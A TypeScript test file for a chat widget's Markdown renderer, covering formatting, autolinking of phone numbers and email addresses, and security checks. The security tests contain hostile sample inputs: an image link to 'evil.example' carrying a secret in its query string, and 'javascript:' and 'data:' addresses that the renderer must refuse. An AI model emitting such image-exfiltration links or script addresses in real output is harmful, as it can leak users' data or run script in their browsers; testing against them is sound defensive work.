import fc from 'fast-check'
import { type ComponentChild, isValidElement, type VNode } from 'preact'
import { describe, expect, test } from 'vitest'
import { markdownNodes, plainTextNodes } from '../../widget/chat/view/markdown.ts'
import { inlineNodes } from '../../widget/chat/view/markdown-inline.ts'
import { safeAddress } from '../../widget/chat/view/safe-address.ts'
import { words } from '../../widget/chat/words/en.ts'
import { hostileTexts } from '../support/hostile.ts'

type Element = VNode<{ href?: string; children?: ComponentChild }>

const childrenOf = (node: Element): ComponentChild[] => [node.props.children ?? []].flat()

/** Nodes as a browser would write them, without attributes but the address of a link. */
function written(nodes: ComponentChild[]): string {
  return nodes
    .flat()
    .map((node) => {
      if (!isValidElement(node)) return String(node)
      const { type, props } = node as Element
      const address = props.href === undefined ? '' : ` ${props.href}`
      return `<${String(type)}${address}>${written(childrenOf(node as Element))}</${String(type)}>`
    })
    .join('')
}

const markdown = (text: string) => written(markdownNodes(text, words))

/** Every element, however deep it stands. */
const elementsIn = (nodes: ComponentChild[]): Element[] =>
  nodes
    .flat()
    .filter(isValidElement)
    .flatMap((node) => [node as Element, ...elementsIn(childrenOf(node as Element))])

const known = new Set('p br strong em code a span pre ul ol li blockquote div table thead tbody tr th td'.split(' '))

describe('Markdown of a reply', () => {
  test.each([
    ['a **b** _c_ `d*`', '<p>a <strong>b</strong> <em>c</em> <code>d*</code></p>'],
    ['2 * 3 ** 4 `open [label](', '<p>2 * 3 ** 4 `open [label](</p>'],
    ['one\ntwo\n\nthree', '<p>one<br></br>two</p><p>three</p>'],
    ['# A\n> b', '<p>A</p><blockquote><p>b</p></blockquote>'],
    ['text\n# A', '<p>text</p><p>A</p>'],
    ['text\n> b', '<p>text</p><blockquote><p>b</p></blockquote>'],
    ['text\n- c', '<p>text</p><ul><li>c</li></ul>'],
    ['text\n```\nd\n```', '<p>text</p><pre><code>d</code></pre>'],
    ['- a\n  - b\n- c', '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>'],
    ['3. a\n4. b', '<ol><li>a</li><li>b</li></ol>'],
    ['```js\n<b>\n```', '<pre><code><b></code></pre>'],
    [
      '| x | y |\n|--|--|\n| 1 | 2 |',
      '<div><table><thead><tr><th>x</th><th>y</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>',
    ],
    ['see [the page](https://shop.example/a "t").', '<p>see <a https://shop.example/a>the page</a>.</p>'],
    ['[film](https://a.example/b_(c))', '<p><a https://a.example/b_(c)>film</a></p>'],
    ['at https://shop.example/a.', '<p>at <a https://shop.example/a>https://shop.example/a</a>.</p>'],
    [
      'Call: +441632960123, +44 (0)1632 960 123 or (01632) 960123.',
      '<p>Call: <a tel:+441632960123>+441632960123</a>, <a tel:+441632960123>+44 (0)1632 960 123</a> or <a tel:01632960123>(01632) 960123</a>.</p>',
    ],
    [
      '0049 30 123456, 01.23.45.67.89, (555) 123-4567',
      '<p><a tel:+4930123456>0049 30 123456</a>, <a tel:0123456789>01.23.45.67.89</a>, <a tel:5551234567>(555) 123-4567</a></p>',
    ],
    [
      'Mail: info@wrenmouth.example, or **a.b+c@shop.co.uk**.',
      '<p>Mail: <a mailto:info@wrenmouth.example>info@wrenmouth.example</a>, or <strong><a mailto:a.b+c@shop.co.uk>a.b+c@shop.co.uk</a></strong>.</p>',
    ],
    [
      '05.11.2026 10:00, order 0123456789, £1,250.00, 2026-11-22, 10-12, +5 %, DE89 3704 0044 0532 0130 00, `+441632960123`',
      '<p>05.11.2026 10:00, order 0123456789, £1,250.00, 2026-11-22, 10-12, +5 %, DE89 3704 0044 0532 0130 00, <code>+441632960123</code></p>',
    ],
    [
      'https://shop.example/+441632960123',
      '<p><a https://shop.example/+441632960123>https://shop.example/+441632960123</a></p>',
    ],
    ['[https://a.example](https://b.example)', '<p><a https://b.example/>https://a.example</a></p>'],
  ])('%j', (text, expected) => {
    expect(markdown(text)).toBe(expected)
  })

  test('[threat 4] a picture is its description, and its address is nowhere', () => {
    expect(markdown('![a shoe](https://evil.example/?d=secret)')).toBe('<p><span>[a shoe]</span></p>')
    expect(markdown('[![in](https://evil.example/p.png)](https://evil.example/go)')).toBe(
      '<p><a https://evil.example/go><span>[in]</span></a></p>',
    )
  })

  test('links open beside the page and tell nothing of it', () => {
    const [link] = elementsIn(inlineNodes('[a](https://b.example)'))
    expect(link?.props).toMatchObject({ target: '_blank', rel: 'noopener noreferrer nofollow' })
  })

  test('what a visitor writes is no Markdown', () => {
    expect(written(plainTextNodes('# a\n**b** https://c.example'))).toBe(
      '<p># a\n**b** <a https://c.example/>https://c.example</a></p>',
    )
  })
})

describe('[threat 3] whatever is written', () => {
  test('links lead to web pages, mail and telephones alone', () => {
    for (const text of hostileTexts)
      for (const { type, props } of elementsIn([...markdownNodes(text, words), ...plainTextNodes(text)])) {
        expect(known).toContain(type)
        if (props.href !== undefined)
          expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(new URL(props.href).protocol)
      }
    for (const address of ['javascript:alert(1)', ' javascript:x', 'data:text/html,x', '//evil.example', '/x', 7])
      expect(safeAddress(address)).toBeUndefined()
  })

  test('it becomes known elements and nothing else, in a time that does not explode', () => {
    const bits = [
      '*',
      '**',
      '_',
      '`',
      '[',
      ']',
      '(',
      ')',
      '![',
      '](',
      '> ',
      '- ',
      '1. ',
      '|',
      '--',
      '\n',
      '\\',
      'a ',
      '+49 ',
      '0',
      '(',
      'a@b.c',
      '@',
    ]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...bits, 'https://a.b', '<b>'), { maxLength: 200 }), (parts) => {
        for (const { type, props } of elementsIn(markdownNodes(parts.join(''), words))) {
          expect(known).toContain(type)
          expect(props).not.toHaveProperty('dangerouslySetInnerHTML')
        }
      }),
    )
    const started = performance.now()
    for (const bit of bits) markdownNodes(bit.repeat(Math.floor(39_999 / bit.length)), words)
    expect(performance.now() - started).toBeLessThan(5_000)
  })
})
